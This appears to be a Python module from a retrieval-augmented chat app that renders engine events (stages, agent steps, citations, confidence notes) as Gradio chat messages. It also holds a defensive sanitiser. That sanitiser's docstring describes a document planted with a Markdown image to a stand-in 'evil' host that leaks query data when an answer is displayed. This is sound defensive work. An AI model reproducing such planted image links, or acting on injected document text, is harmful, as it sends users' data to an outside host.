"""Engine events -> chat messages. Pure functions of the events: tested without a model or a browser."""

from __future__ import annotations

import html
import json
import re
from dataclasses import dataclass, field
from typing import Any

import gradio as gr

from ragapp.core.events import (
    AgentStepEvent,
    AnswerEvent,
    ClarifyEvent,
    EngineEvent,
    EvidenceEvent,
    ModeEvent,
    NoticeEvent,
    RetrievalEvent,
    RewriteEvent,
    RoutingEvent,
    StageEvent,
    TokenEvent,
    TraceEvent,
    WaitEvent,
)
from ragapp.core.lang import is_chinese
from ragapp.core.types import Citation, RetrievedChunk

_STAGE_TITLES = {
    "memory": "🗂️ Summarising earlier turns",
    "rewrite": "✏️ Understanding the question",
    "route": "🧭 Choosing where to look",
    "retrieve": "🔎 Searching the knowledge base",
    "translate": "🌐 Searching in the documents' language",
    "rephrase": "🔁 Searching again with the answer's likely words",
    "generate": "✍️ Writing the answer",
    "agent": "🤖 Agent working",
}
_MODE_ICONS = {"agent": "🤖", "workflow": "🧭"}
_ARGUMENT_CHARS = 300  # longer tool arguments are cut in the step bubble
_PREVIEW_CHARS = 500
_AGENT_COUNTS = (  # the agent stage's summary: detail key, singular, plural
    ("steps", "step", "steps"),
    ("model calls", "model call", "model calls"),
    ("passages", "passage found", "passages found"),
)
_ACTIONS = {
    "route": "Search in",
    "clarify": "Ask which one is meant",
    "system": "Reply directly (no search)",
    "fallback": "Search all knowledge bases",
}
UNSUPPORTED_MARK = "⚠️ not found in the documents"
_MARKDOWN_CHARS = re.compile(r"[\\`*_\[\]#|~]")
_LIST_LEAD = re.compile(r"^\s*(?:[-*•]|\d{1,2}[.)])\s+")
SEARCH_ALL_CHOICE = {"label": "Search everything · 全部检索", "value": "*"}


@dataclass
class TurnView:
    """The assistant side of one turn, rebuilt as events arrive."""

    steps: list[gr.ChatMessage] = field(default_factory=list)
    answer: str = ""  # the answer as text (streamed, then the checked one): what the conversation remembers
    shown: str = ""  # the checked answer as displayed, unsupported sentences marked
    sources: list[gr.ChatMessage] = field(default_factory=list)
    cited: list[Citation] = field(default_factory=list)  # what each of ``sources`` shows, in order
    trace_id: str = ""  # the trace this answer leaves (feedback points at it)
    retrieved: tuple[RetrievedChunk, ...] = ()
    evidence: EvidenceEvent | None = None  # the documents' sentence shown before the model's answer
    rewrite: RewriteEvent | None = None
    choices: list[dict[str, str]] = field(default_factory=list)  # clickable answers when the app asks back
    routed: int = 0  # routing decisions seen (one per sub-question)
    agent_steps: dict[int, gr.ChatMessage] = field(default_factory=dict)  # step number -> its bubble
    reading: str = ""  # what the model reads before its first word ("5 passages (≈ 600 tokens)")
    done: bool = False

    def apply(self, event: EngineEvent) -> None:
        if isinstance(event, StageEvent):
            self._apply_stage(event)
        elif isinstance(event, NoticeEvent):
            icon = "⚠️" if event.level == "warning" else "ℹ️"
            self.steps.append(gr.ChatMessage(role="assistant", content=f"{icon} {escape_text(event.message)}"))
        elif isinstance(event, TraceEvent):
            self.trace_id = event.trace_id
        elif isinstance(event, ModeEvent):
            self.steps.append(gr.ChatMessage(role="assistant", content=mode_line(event)))
        elif isinstance(event, AgentStepEvent):
            self._apply_agent_step(event)
        elif isinstance(event, RetrievalEvent):
            self.retrieved = event.chunks
        elif isinstance(event, RewriteEvent):
            self.rewrite = event
        elif isinstance(event, RoutingEvent):
            self._apply_routing(event)
        elif isinstance(event, ClarifyEvent):
            self.choices = [{"label": c.label, "value": c.code} for c in event.choices] + [SEARCH_ALL_CHOICE]
        elif isinstance(event, EvidenceEvent):
            self.evidence = event
        elif isinstance(event, WaitEvent):
            self._apply_wait(event)
        elif isinstance(event, TokenEvent):
            self.answer += event.text
        elif isinstance(event, AnswerEvent):
            self.answer = event.text  # the checked answer replaces the streamed draft
            self.shown = answer_markup(event)
            low = event.confidence is not None and event.confidence.level == "low"
            # A doubtful answer shows the passage it rests on open, so the reader checks it at once.
            self.sources = [citation_message(c, opened=low and i == 0) for i, c in enumerate(event.citations)]
            self.cited = list(event.citations)
            if event.grounded and not event.citations and self.retrieved:
                self.sources = [consulted_message(self.retrieved)]
            self.done = True

    def _apply_stage(self, event: StageEvent) -> None:
        title = _STAGE_TITLES.get(event.stage, event.stage)
        if event.status == "started":
            metadata: dict[str, Any] = {"title": title, "status": "pending"}
            if event.stage == "generate" and "passages" in event.detail:
                self.reading = reading_words(event.detail)
                metadata["log"] = wait_line(WaitEvent(0, 0.0), self.reading)
            self.steps.append(gr.ChatMessage(role="assistant", content="", metadata=metadata))  # type: ignore[arg-type]
            return
        message = self._pending(title)
        if message is None:
            return
        meta = message.metadata or {}
        meta.pop("log", None)  # the live line ends with the stage
        meta["status"] = "done"
        if event.duration_s is not None:
            meta["duration"] = round(event.duration_s, 2)
        if event.status == "failed":
            meta["title"] = f"❌ {title}: failed"
            message.content = event.error or ""
        else:
            message.content = stage_summary(event)

    def _apply_wait(self, event: WaitEvent) -> None:
        """The live line beside the title of the stage that waits (seen while the bubble is collapsed): its
        place in the model's queue; for the answer, then what the model reads, with a timer."""
        pending = next((m for m in reversed(self.steps) if (m.metadata or {}).get("status") == "pending"), None)
        if pending is None or pending.metadata is None:
            return
        if pending.metadata.get("title") == _STAGE_TITLES["generate"]:
            pending.metadata["log"] = wait_line(event, self.reading)
        elif event.ahead > 0:
            pending.metadata["log"] = wait_line(event, "")
        else:
            pending.metadata.pop("log", None)  # its turn came

    def _pending(self, title: str) -> gr.ChatMessage | None:
        """The latest bubble of a stage with this title that has not finished yet."""
        for message in reversed(self.steps):
            meta = message.metadata or {}
            if meta.get("title") == title and meta.get("status") == "pending":
                return message
        return None

    def _apply_agent_step(self, event: AgentStepEvent) -> None:
        """One bubble per step: opened (pending) when the step starts, closed when it finishes or fails. A step
        that fails before it starts (an unreadable reply) gets a bubble of its own straight away."""
        message = self.agent_steps.get(event.step)
        if message is None:
            message = gr.ChatMessage(role="assistant", content="")
            self.agent_steps[event.step] = message
            self.steps.append(message)
        title = f"🛠️ Step {event.step} · {event.tool if event.tool not in ('', '?') else 'no tool call'}"
        metadata: dict[str, Any] = {"title": title, "status": "pending" if event.status == "started" else "done"}
        if event.status == "failed":
            metadata["title"] = f"❌ {title}: failed"
        if event.duration_s is not None and event.status != "started":
            metadata["duration"] = round(event.duration_s, 2)
        message.metadata = metadata  # type: ignore[assignment]  # MetadataDict is a TypedDict of these keys
        message.content = agent_step_body(event)

    def _apply_routing(self, event: RoutingEvent) -> None:
        """Put the decision and its reason in the routing step's bubble (one per sub-question)."""
        title = _STAGE_TITLES["route"]
        bubbles = [m for m in self.steps if str((m.metadata or {}).get("title", "")).endswith(title)]
        if self.routed < len(bubbles):  # no bubble when routing is off: the decision is then in the trace only
            bubbles[self.routed].content = routing_summary(event)
        self.routed += 1

    def messages(self) -> list[gr.ChatMessage]:
        out = list(self.steps)
        if self.evidence is not None:
            out.append(evidence_message(self.evidence))
        if self.answer or self.done:
            answer = gr.ChatMessage(role="assistant", content=no_remote_content(self.shown or self.answer))
            if self.choices:
                answer.options = self.choices  # type: ignore[assignment]  # OptionDict is a TypedDict of these keys
            out.append(answer)
        if self.rewrite is not None and self.done:
            out.append(gr.ChatMessage(role="assistant", content=rewrite_note(self.rewrite)))
        out.extend(self.sources)
        return out


def routing_summary(event: RoutingEvent) -> str:
    """'Search in: Lumen V1 › Specs (0.90)' and the reason, for the routing step's bubble."""
    action = _ACTIONS.get(event.action, event.action)
    intents = ", ".join(f"{i.label} ({i.score:.2f})" for i in event.intents)
    lines = [f"**{action}**" + (f": {intents}" if intents else "")]
    if len(event.question) < 200:
        lines.append(f"Question: {event.question}")
    lines.append(f"Why: {event.reason}")
    return "\n\n".join(lines)


def mode_line(event: ModeEvent) -> str:
    """'🤖 Auto chose agent: the question compares things': which way Auto mode took, and why."""
    reason = (
        event.reason if event.reason.lower().startswith("auto chose") else f"Auto chose {event.mode}: {event.reason}"
    )
    return f"{_MODE_ICONS.get(event.mode, 'ℹ️')} {plain_markdown(reason)}"


def agent_step_body(event: AgentStepEvent) -> str:
    """The step bubble: why the model took the step, the call it made, and what came back (or the error)."""
    lines = []
    if event.thought:
        lines.append(f"**Why:** {plain_markdown(event.thought)}")
    if event.tool not in ("", "?"):
        arguments = json.dumps(event.arguments, ensure_ascii=False, default=str)
        if len(arguments) > _ARGUMENT_CHARS:
            arguments = arguments[:_ARGUMENT_CHARS] + "…"
        lines.append(f"**Tool:** {code_span(event.tool)} {code_span(arguments)}")
    if event.status == "failed":
        lines.append(f"**Error:** {plain_markdown(event.error or 'the step failed')}")
    elif event.status == "finished":
        preview = event.preview.strip() or "(no output)"
        if len(preview) > _PREVIEW_CHARS:
            preview = preview[:_PREVIEW_CHARS] + "…"
        lines.append(f"**Result:** {plain_markdown(preview)}")
    return "\n\n".join(lines)


def code_span(text: str) -> str:
    """``text`` as a Markdown code span, whatever backticks it holds (the fence is longer than any run in it)."""
    text = " ".join(text.split())  # a code span is one line
    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def rewrite_note(event: RewriteEvent) -> str:
    """The small line under the answer that says what was searched."""
    parts = event.sub_questions if len(event.sub_questions) > 1 else (event.standalone,)
    searched = " · ".join(f"“{p}”" for p in parts)
    return f"<sub>🔎 Searched as · 检索问题: {plain_markdown(searched)}</sub>"


def stage_summary(event: StageEvent) -> str:
    detail = event.detail
    if event.stage == "retrieve":
        channels = ", ".join(f"{name}: {count} hits" for name, count in detail.get("channels", {}).items())
        return (
            f"{channels or 'no channel answered'} · {detail.get('candidates', 0)} fused candidates · "
            f"{detail.get('relevant', 0)} relevant · reranker: {detail.get('reranker', 'off')}"
        )
    if event.stage == "agent" and event.status == "finished":
        counts = [(detail.get(k, 0), one, many) for k, one, many in _AGENT_COUNTS]
        return " · ".join(f"{n} {one if n == 1 else many}" for n, one, many in counts)
    return ", ".join(f"{k}: {v}" for k, v in detail.items())


def reading_words(detail: dict[str, Any]) -> str:
    """ "5 passages (≈ 600 tokens)": what the model reads before it writes, from the generate stage's detail."""
    count = int(detail.get("passages", 0))
    tokens = detail.get("prompt tokens")
    about = f" (≈ {tokens} tokens · 约 {tokens} 词元)" if tokens else ""
    return f"{count} passage{'s' if count != 1 else ''}{about}"


def wait_line(event: WaitEvent, reading: str) -> str:
    """The pending answer's live line: its place in the model's queue, or what the model is reading, and for
    how long."""
    clock = f" · {event.seconds:.0f} s"
    if event.ahead > 0:
        answers = "answer" if event.ahead == 1 else "answers"
        return (
            f"⏳ Waiting for the model: {event.ahead} {answers} ahead of yours · "
            f"排队中，前面还有 {event.ahead} 个回答{clock}"
        )
    what = f" {reading}" if reading else " the question"
    return f"📖 Reading{what}… · 正在阅读资料…{clock}"


def citation_title(citation: Citation) -> str:
    return f"[{citation.number}] {_where(citation)}"


def _where(citation: Citation) -> str:
    """The cited document's name and its page or section, as stored (escape it where Markdown renders it); for
    a passage read from a scan, how sure the OCR was, so a reader knows to check an odd word against the page."""
    where = citation.chunk.location
    read = citation.chunk.ocr_confidence
    scanned = f" · 🖨️ OCR {read:.0%} · 扫描识别" if read is not None else ""
    return citation.chunk.source + (f" · {where}" if where else "") + scanned


EVIDENCE_LABEL = "📌 From the documents · 文档原文"


def evidence_message(event: EvidenceEvent) -> gr.ChatMessage:
    """The quoted sentence(s) that best answer the question, with where they come from: on screen as soon as
    the passages are chosen, while the model is still reading them."""
    quote = f"<mark>{escape_text(event.quote)}</mark>"
    return gr.ChatMessage(
        role="assistant", content=f"{EVIDENCE_LABEL} · {escape_text(citation_title(event.citation))}\n\n> {quote}"
    )


# A click on the passage (a chat message) opens it where it stands: the page drawn, or its section.
OPEN_PAGE_HINT = "<sub>🔍 Click the passage to see it on its page · 点击原文查看所在页面</sub>"


def citation_message(citation: Citation, opened: bool = False) -> gr.ChatMessage:
    """A collapsed message per citation: click its title (document and page) to read the cited passage, the
    sentences that support the answer highlighted. ``opened``: the passage shown in full, not collapsed."""
    if opened:
        title = f"📄 [{citation.number}] {escape_text(_where(citation))}"
        body = highlighted(citation.chunk.text, citation.highlights)
        return gr.ChatMessage(role="assistant", content=f"**{title}**\n\n{body}\n\n{OPEN_PAGE_HINT}")
    return gr.ChatMessage(
        role="assistant",
        content=f"{highlighted(citation.chunk.text, citation.highlights)}\n\n{OPEN_PAGE_HINT}",
        metadata={"title": f"📄 [{citation.number}] {escape_text(_where(citation))}", "status": "done"},
    )


_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(([^)\s]{0,2000})[^)\n]{0,500}\)")
_MD_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]\(((?:https?:)?//[^)\s]{0,2000})[^)\n]{0,500}\)", re.IGNORECASE)
_LOADING_TAG = re.compile(
    r"<(?=/?\s*(img|image|iframe|frame|video|audio|source|picture|object|embed|link|svg|style|script|meta|base)\b)",
    re.IGNORECASE,
)


# The chat's Markdown turns bare addresses into links (GFM autolinks). Their slashes (and the dot after "www")
# shown as character references still read as the address but match no autolink, so nothing becomes clickable.
# The app's own links are relative ("/gradio_api/file=..."), so every absolute address is another host's.
_SCHEME = re.compile(r"\b(https?|ftps?)://", re.IGNORECASE)
_WWW = re.compile(r"\b(www)\.(?=[\w-])", re.IGNORECASE)


def unlinked(text: str) -> str:
    """``text`` (already escaped or Markdown) with no address in it that the renderer would make a link."""
    return _WWW.sub(r"\1&#46;", _SCHEME.sub(r"\1:&#47;&#47;", text))


def no_remote_content(text: str) -> str:
    """Model or user text with nothing in it that would load from another host when shown: Markdown images
    become their alt text and address, links to other hosts plain text, and tags that load resources
    (img, iframe, video, svg, style...) are shown as text. A document planted with ``![](https://evil/?q=...)``
    would otherwise have the browser send the request the moment the answer appears."""
    text = _MD_IMAGE.sub(lambda m: f"🖼 {m.group(1) or 'image'} ({escape_text(m.group(2))})", text)
    text = _MD_LINK.sub(lambda m: f"{m.group(1)} ({escape_text(m.group(2))})", text)
    return unlinked(_LOADING_TAG.sub("&lt;", text))


def plain_markdown(text: str) -> str:
    """Model text shown in a step or note: HTML escaped, Markdown kept, nothing that loads from another host."""
    return no_remote_content(html.escape(text, quote=False))


def escape_text(text: str) -> str:
    """Document text shown as itself: HTML escaped, and the Markdown characters that would format it."""
    return unlinked(html.escape(_MARKDOWN_CHARS.sub(r"\\\g<0>", text), quote=False))


def highlighted(text: str, sentences: tuple[str, ...]) -> str:
    """``text`` escaped, each of ``sentences`` found in it wrapped in ``<mark>``."""
    spans = sorted({(i, i + len(s)) for s in sentences if s and (i := text.find(s)) >= 0})
    out, at = [], 0
    for start, end in spans:
        if start < at:  # overlaps the one before: already highlighted
            continue
        out += [escape_text(text[at:start]), f"<mark>{escape_text(text[start:end])}</mark>"]
        at = end
    return "".join(out) + escape_text(text[at:])


def answer_markup(event: AnswerEvent) -> str:
    """The answer as displayed: each unsupported sentence muted and marked ⚠️ (a refusal is shown as it is), and
    under a low-confidence answer a note saying so and why."""
    note = low_confidence_note(event)
    return _marked(event) + (f"\n\n{note}" if note else "")


# Why an answer is doubtful, by the check it failed (ragapp.qa.confidence), in the answer's language.
_DOUBTS = {
    "supported": ("not every sentence is in the passages", "有的句子在原文中找不到"),
    "fits": ("it may not answer what was asked", "可能没有回答所问的问题"),
    "agrees": ("it differs from the quoted sentence", "与引用的原文句子不一致"),
    "on_topic": ("the passage it rests on may be about something else", "所依据的原文可能说的是别的事"),
}


def low_confidence_note(event: AnswerEvent) -> str:
    """'⚠️ May be wrong — check the passage (it may not answer what was asked).' under a low-confidence answer;
    "" otherwise."""
    if event.confidence is None or event.confidence.level != "low":
        return ""
    chinese = is_chinese(event.text)
    reasons = [_DOUBTS[c.check][int(chinese)] for c in event.confidence.failed if c.check in _DOUBTS]
    if chinese:
        why = f"（{'；'.join(reasons)}）" if reasons else ""
        return f"⚠️ **可能有误，请核对下面的原文**{why}。"
    why = f" ({'; '.join(reasons)})" if reasons else ""
    return f"⚠️ **May be wrong — check the passage below**{why}."


def _marked(event: AnswerEvent) -> str:
    if event.abstained or not any(s.status == "unsupported" for s in event.support):
        return event.text
    parts = []
    for sentence in event.support:
        if sentence.status != "unsupported":
            parts.append(sentence.text)
            continue
        body = sentence.text.rstrip()
        lead = _LIST_LEAD.match(body)
        start = lead.end() if lead else 0
        parts.append(
            f'{body[:start]}<span class="unsupported" style="opacity:0.6">{body[start:]}</span>'
            f"<sup> {UNSUPPORTED_MARK}</sup>{sentence.text[len(body) :]}"
        )
    return "".join(parts).strip()


def consulted_message(chunks: tuple[RetrievedChunk, ...]) -> gr.ChatMessage:
    lines = [
        f"- {escape_text(c.chunk.source)}" + (f" · {escape_text(c.chunk.location)}" if c.chunk.location else "")
        for c in chunks
    ]
    return gr.ChatMessage(
        role="assistant",
        content="\n".join(lines),
        metadata={"title": "📚 Passages consulted (the answer cited none)", "status": "done"},
    )
